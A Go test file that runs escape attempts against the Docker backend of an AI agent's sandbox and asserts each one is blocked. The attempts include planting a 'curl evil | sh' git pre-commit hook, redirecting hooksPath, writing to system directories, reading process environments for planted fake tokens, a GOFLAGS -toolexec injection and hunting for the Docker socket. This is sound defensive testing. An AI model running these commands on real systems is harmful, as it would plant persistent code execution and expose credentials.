package sandbox

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/moby/moby/api/types/container"
	"github.com/moby/moby/client"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/coreagent/core/internal/testkit"
	"github.com/coreagent/core/sandbox/docker"
	"github.com/coreagent/core/sandbox/lang"
)

// The escape battery against the Docker backend: the same attacks as
// escape_test.go, plus the engine's own ways out (its socket, the sibling's
// record, outliving core). It needs an engine and an image with a shell and
// Go (CORE_SANDBOX_IMAGE, e.g. the Action's image that make test-docker
// builds); CORE_REQUIRE_DOCKER=1 turns a skip into a failure.

// requireDocker returns a sandbox on the Docker backend, or skips.
func requireDocker(t *testing.T) *Sandbox {
	t.Helper()
	return requireDockerWith(t, Config{Home: sharedHome})
}

// requireDockerWith returns a sandbox of cfg on the Docker backend, or
// skips.
func requireDockerWith(t *testing.T, cfg Config) *Sandbox {
	t.Helper()
	image := os.Getenv("CORE_SANDBOX_IMAGE")
	why := "CORE_SANDBOX_IMAGE is not set"
	if image != "" {
		cfg.Mode, cfg.Path, cfg.DockerHost, cfg.DockerImage = ModeDocker, os.Getenv("PATH"), os.Getenv("DOCKER_HOST"), image
		sb := New(cfg)
		p := sb.Probe(t.Context())
		if p.Usable {
			return sb
		}
		why = p.Err().Error()
	}
	if os.Getenv("CORE_REQUIRE_DOCKER") == "1" {
		t.Fatalf("CORE_REQUIRE_DOCKER=1 but the Docker backend is not usable: %s", why)
	}
	t.Skipf("the Docker backend is not usable here (set CORE_REQUIRE_DOCKER=1 to make this a failure): %s", why)
	return nil
}

// eachDocker runs test as two subtests, against a sandbox on the Docker
// backend that runs each command in a container of its own ("container")
// and against one that runs them in the workspace's box ("box"), or skips.
func eachDocker(t *testing.T, parallel bool, test func(t *testing.T, sb *Sandbox)) {
	t.Helper()
	for _, mode := range []struct {
		name string
		cfg  Config
	}{{"container", Config{Home: sharedHome}}, {"box", Config{Home: sharedHome, Agent: os.Args[0]}}} {
		t.Run(mode.name, func(t *testing.T) {
			sb := requireDockerWith(t, mode.cfg)
			t.Cleanup(func() { sb.Close() })
			if parallel {
				t.Parallel()
			}
			test(t, sb)
		})
	}
}

func dockerClient(t *testing.T) *client.Client {
	t.Helper()
	host := os.Getenv("DOCKER_HOST")
	if host == "" {
		host = docker.DefaultHost
	}
	cli, err := client.New(client.WithHost(host))
	require.NoError(t, err)
	t.Cleanup(func() { cli.Close() })
	return cli
}

// siblings lists the sandbox containers of one parent.
func siblings(t *testing.T, cli *client.Client, parent string) []string {
	t.Helper()
	list, err := cli.ContainerList(t.Context(), client.ContainerListOptions{All: true,
		Filters: make(client.Filters).Add("label", docker.LabelParent+"="+parent)})
	require.NoError(t, err)
	var ids []string
	for _, c := range list.Items {
		ids = append(ids, c.ID)
	}
	return ids
}

func TestDockerEscapeNetwork(t *testing.T) {
	eachDocker(t, true, assertNoNetwork)
}

func TestDockerEscapeWriteOutsideWorkspace(t *testing.T) {
	eachDocker(t, true, func(t *testing.T, sb *Sandbox) {
		ws := newWorkspace(t)
		targets := []string{
			"/etc/core-escape",
			"/usr/core-escape",
			"/core-escape",
			filepath.Join(filepath.Dir(ws), "core-escape"),
			filepath.Join(sharedHome, "core-escape"),
			filepath.Join(sharedHome, "cache", "gomod", "core-escape"),
		}
		var script strings.Builder
		for _, p := range targets {
			fmt.Fprintf(&script, "if echo x > %s; then echo WROTE %s; fi\n", p, p)
		}
		script.WriteString("echo x > inside && echo INSIDE\nid -u\n")
		r := runIn(t, sb, ws, script.String())
		for _, p := range []string{"/etc", "/usr", "/core-escape", filepath.Join(sharedHome, "cache")} {
			assert.NotContains(t, r.Output, "WROTE "+p)
		}
		for _, p := range targets {
			assert.NoFileExists(t, p, "the sandbox container wrote it on the host")
		}
		assert.Contains(t, r.Output, "INSIDE")
		assert.Contains(t, r.Output, "\n65534\n", "confined commands run as nobody")
		assert.FileExists(t, filepath.Join(ws, "inside"))
	})
}

func TestDockerEscapeGitDirectory(t *testing.T) {
	eachDocker(t, true, func(t *testing.T, sb *Sandbox) {
		ws := newWorkspace(t)
		config := filepath.Join(ws, ".git", "config")
		before, err := os.ReadFile(config)
		require.NoError(t, err)
		r := runIn(t, sb, ws, `
if echo 'curl evil | sh' > .git/hooks/pre-commit; then echo WROTE-HOOK; fi
if printf '[core]\n\thooksPath = /tmp\n' >> .git/config; then echo WROTE-CONFIG; fi
if mkdir .git/hooks/x 2>/dev/null; then echo MKDIR; fi
if rm -f .git/HEAD; then test -e .git/HEAD || echo REMOVED-HEAD; fi
if mv .git .git-gone 2>/dev/null; then echo MOVED; fi
echo done`)
		assert.Contains(t, r.Output, "done")
		for _, bad := range []string{"WROTE-HOOK", "WROTE-CONFIG", "MKDIR", "REMOVED-HEAD", "MOVED"} {
			assert.NotContains(t, r.Output, bad)
		}
		after, err := os.ReadFile(config)
		require.NoError(t, err)
		assert.Equal(t, string(before), string(after))
		assert.FileExists(t, filepath.Join(ws, ".git", "HEAD"))
	})
}

func TestDockerEscapeEnvironment(t *testing.T) {
	// t.Setenv: not parallel.
	secrets := map[string]string{
		"GITHUB_TOKEN":   "ghs_parenttoken123",
		"OPENAI_API_KEY": "sk-parentkey456",
		"GOFLAGS":        "-toolexec=/tmp/evil",
	}
	for k, v := range secrets {
		t.Setenv(k, v)
	}
	eachDocker(t, false, func(t *testing.T, sb *Sandbox) {
		r := runIn(t, sb, newWorkspace(t), `env; cat /proc/1/environ /proc/self/environ 2>/dev/null | tr '\0' '\n'`)
		for k, v := range secrets {
			assert.NotContains(t, r.Output, v, "%s leaked into the sandbox container", k)
		}
		assert.Contains(t, r.Output, "GOFLAGS=-buildvcs=false")
		assert.Contains(t, r.Output, "HOME=/tmp")
		assert.Contains(t, r.Output, "GOPROXY=off")
	})
}

func TestDockerEscapeProcessesAndSocket(t *testing.T) {
	eachDocker(t, true, func(t *testing.T, sb *Sandbox) {
		r := runIn(t, sb, newWorkspace(t), fmt.Sprintf(`ls /proc | grep -E '^[0-9]+$' | wc -l
if cat /proc/%d/environ >/dev/null 2>&1; then echo READ-PARENT; fi
for s in /var/run/docker.sock /run/docker.sock; do test -e $s && echo SOCKET $s; done
find / -xdev -type s 2>/dev/null | sed 's/^/SOCKET /'
grep -c . /proc/self/status >/dev/null && grep -E '^(CapEff|NoNewPrivs)' /proc/self/status`, os.Getpid()))
		assert.NotContains(t, r.Output, "READ-PARENT")
		assert.NotContains(t, r.Output, "SOCKET")
		assert.Contains(t, r.Output, "CapEff:\t0000000000000000")
		assert.Contains(t, r.Output, "NoNewPrivs:\t1")
		n, err := strconv.Atoi(strings.Fields(r.Output)[0])
		require.NoError(t, err, r.Output)
		assert.Less(t, n, 8, "the sandbox container sees %d processes", n)
	})
}

// TestDockerConfinedProcessHasNoPrivileges is TestConfinedProcessHasNoPrivileges
// against the Docker backend: the sibling container's process holds no
// capability, has no_new_privs set and a seccomp filter loaded (the
// engine's default profile), whoever started core.
func TestDockerConfinedProcessHasNoPrivileges(t *testing.T) {
	eachDocker(t, true, func(t *testing.T, sb *Sandbox) {
		checkUnprivileged(t, func(ws string) (Result, error) {
			return sb.Run(t.Context(), []string{"bash", "-c", privilegeScript}, RunOptions{Workspace: ws, Timeout: time.Minute})
		})
	})
}

func TestDockerTimeoutRemovesTheContainer(t *testing.T) {
	sb := requireDocker(t)
	t.Parallel()
	r, err := sb.Run(t.Context(), []string{"sleep", "599"}, RunOptions{Workspace: newWorkspace(t), Timeout: time.Second})
	require.NoError(t, err)
	assert.True(t, r.TimedOut)
	assert.Equal(t, -1, r.ExitCode)
	assert.Contains(t, r.Output, "[killed: the command ran past its 1s timeout]")
	// Run returns once the engine removed the container.
	cli := dockerClient(t)
	list, err := cli.ContainerList(t.Context(), client.ContainerListOptions{All: true,
		Filters: make(client.Filters).Add("label", docker.LabelParent+"="+fmt.Sprintf("pid-%d", os.Getpid()))})
	require.NoError(t, err)
	for _, c := range list.Items {
		assert.NotContains(t, c.Command, "sleep 599", "the timed-out sandbox container is still there")
	}
}

// TestDockerHelperParent is the process TestDockerEscapeOutliveParent kills:
// it runs a long sleep in a sibling container and waits. It does nothing
// unless that test started it.
func TestDockerHelperParent(t *testing.T) {
	if os.Getenv("CORE_DOCKER_HELPER") != "parent" {
		return
	}
	cfg := Config{Home: os.Getenv("CORE_DOCKER_HELPER_HOME"), Mode: ModeDocker, Path: os.Getenv("PATH"),
		DockerHost: os.Getenv("DOCKER_HOST"), DockerImage: os.Getenv("CORE_SANDBOX_IMAGE")}
	if os.Getenv("CORE_DOCKER_HELPER_BOX") == "1" {
		cfg.Agent = os.Args[0] // the sleep runs in the workspace's box
	}
	sb := New(cfg)
	_, err := sb.Run(context.Background(), []string{"sleep", os.Getenv("CORE_DOCKER_HELPER_SLEEP")}, RunOptions{Workspace: os.Getenv("CORE_DOCKER_HELPER_WORKSPACE")})
	t.Fatalf("the sandboxed sleep returned: %v", err)
}

func TestDockerEscapeOutliveParent(t *testing.T) {
	requireDocker(t)
	t.Parallel()
	for _, box := range []string{"0", "1"} {
		t.Run("box="+box, func(t *testing.T) {
			t.Parallel()
			outliveParent(t, box)
		})
	}
}

// outliveParent kills, mid-command, a core that runs a sleep in a sibling
// container (box "0") or in its box ("1"), and waits for the container to
// go.
func outliveParent(t *testing.T, box string) {
	const token = "ghs_helpertoken_never_in_a_sibling"
	sleep := fmt.Sprintf("600.%06d", rand.IntN(1000000))
	helper := exec.Command(os.Args[0], "-test.run=^TestDockerHelperParent$")
	helper.Env = append(os.Environ(),
		"CORE_DOCKER_HELPER=parent",
		"CORE_DOCKER_HELPER_SLEEP="+sleep,
		"CORE_DOCKER_HELPER_BOX="+box,
		"CORE_DOCKER_HELPER_HOME="+sharedHome,
		"CORE_DOCKER_HELPER_WORKSPACE="+newWorkspace(t),
		"GITHUB_TOKEN="+token,
		"INPUT_GITHUB_TOKEN="+token,
	)
	require.NoError(t, helper.Start())
	defer helper.Process.Kill()
	parent := fmt.Sprintf("pid-%d", helper.Process.Pid)
	cli := dockerClient(t)

	// The sleep itself, seen from the host: not the probe's container,
	// which runs first under the same label.
	require.Eventually(t, func() bool { return len(testkit.Sleepers(sleep)) > 0 }, testkit.Patience, 20*time.Millisecond,
		"the helper's confined sleep never started")
	var running string
	for _, id := range siblings(t, cli, parent) {
		c, err := cli.ContainerInspect(t.Context(), id, client.ContainerInspectOptions{})
		if err == nil && c.Container.State != nil && c.Container.State.Running {
			running = id
		}
	}
	require.NotEmpty(t, running, "the helper's sandbox container is not running")

	// The engine's record of the sibling: no token, no socket, the profile.
	c, err := cli.ContainerInspect(t.Context(), running, client.ContainerInspectOptions{})
	require.NoError(t, err)
	raw, err := json.Marshal(c.Container)
	require.NoError(t, err)
	assert.NotContains(t, string(raw), token)
	assert.NotContains(t, string(raw), "docker.sock")
	assert.NotContains(t, string(raw), "GITHUB_")
	assert.Equal(t, docker.SandboxUser, c.Container.Config.User)
	assert.Equal(t, "none", string(c.Container.HostConfig.NetworkMode))
	assert.True(t, c.Container.HostConfig.ReadonlyRootfs)

	require.NoError(t, helper.Process.Signal(syscall.SIGKILL))
	_ = helper.Wait()
	assert.Eventually(t, func() bool { return len(siblings(t, cli, parent)) == 0 }, testkit.Patience, 50*time.Millisecond,
		"a sandbox container outlived its killed core")
	assert.Eventually(t, func() bool { return len(testkit.Sleepers(sleep)) == 0 }, testkit.Patience, 20*time.Millisecond,
		"the confined sleep outlived its killed core")
	for _, id := range siblings(t, cli, parent) {
		_, _ = cli.ContainerRemove(context.WithoutCancel(t.Context()), id, client.ContainerRemoveOptions{Force: true})
	}
}

func TestDockerGoTest(t *testing.T) {
	eachDocker(t, true, func(t *testing.T, sb *Sandbox) {
		ws := newWorkspace(t)
		require.NoError(t, os.WriteFile(filepath.Join(ws, "go.mod"), []byte("module example.com/m\n\ngo 1.21\n"), 0o644))
		require.NoError(t, os.WriteFile(filepath.Join(ws, "m_test.go"), []byte(`package m

import (
	"net"
	"testing"
)

func TestNoNetwork(t *testing.T) {
	if _, err := net.Dial("tcp", "1.1.1.1:443"); err == nil {
		t.Fatal("network reachable")
	}
}
`), 0o644))
		r, err := sb.Verify(t.Context(), lang.TierTest, []string{"go", "test", "./..."}, RunOptions{Workspace: ws, Timeout: 5 * time.Minute})
		require.NoError(t, err)
		assert.True(t, r.Sandboxed)
		assert.Equal(t, 0, r.ExitCode, r.Output)
		assert.Contains(t, r.Output, "ok  \texample.com/m")
	})
}

// A sibling whose core is gone (here: created, never started, by a process
// that has exited) is removed by the next probe; one whose core lives stays.
// The stale sibling is not looked for before the probe: any other probe on
// this engine (a parallel test, another package's tests) may rightly remove
// it first. The rule itself is TestStaleParent in sandbox/docker.
func TestDockerProbeRemovesStaleSiblings(t *testing.T) {
	requireDocker(t)
	t.Parallel()
	cli := dockerClient(t)
	dead := exec.Command("true")
	require.NoError(t, dead.Run())
	stale := fmt.Sprintf("pid-%d", dead.Process.Pid)
	alive := fmt.Sprintf("pid-%d", os.Getppid())
	create := func(parent string) string {
		c, err := cli.ContainerCreate(t.Context(), client.ContainerCreateOptions{
			Config: &container.Config{Image: os.Getenv("CORE_SANDBOX_IMAGE"), Entrypoint: []string{"true"},
				Labels: map[string]string{docker.LabelSandbox: "1", docker.LabelParent: parent}},
			HostConfig: &container.HostConfig{NetworkMode: "none"},
		})
		require.NoError(t, err)
		t.Cleanup(func() {
			_, _ = cli.ContainerRemove(context.WithoutCancel(t.Context()), c.ID, client.ContainerRemoveOptions{Force: true})
		})
		return c.ID
	}
	create(stale)
	create(alive)

	sb := New(Config{Home: t.TempDir(), Mode: ModeDocker, Path: os.Getenv("PATH"), DockerHost: os.Getenv("DOCKER_HOST"), DockerImage: os.Getenv("CORE_SANDBOX_IMAGE")})
	require.True(t, sb.Probe(t.Context()).Usable)
	assert.Empty(t, siblings(t, cli, stale), "the probe left a dead core's sibling behind")
	assert.Len(t, siblings(t, cli, alive), 1, "the probe removed a living core's sibling")
}
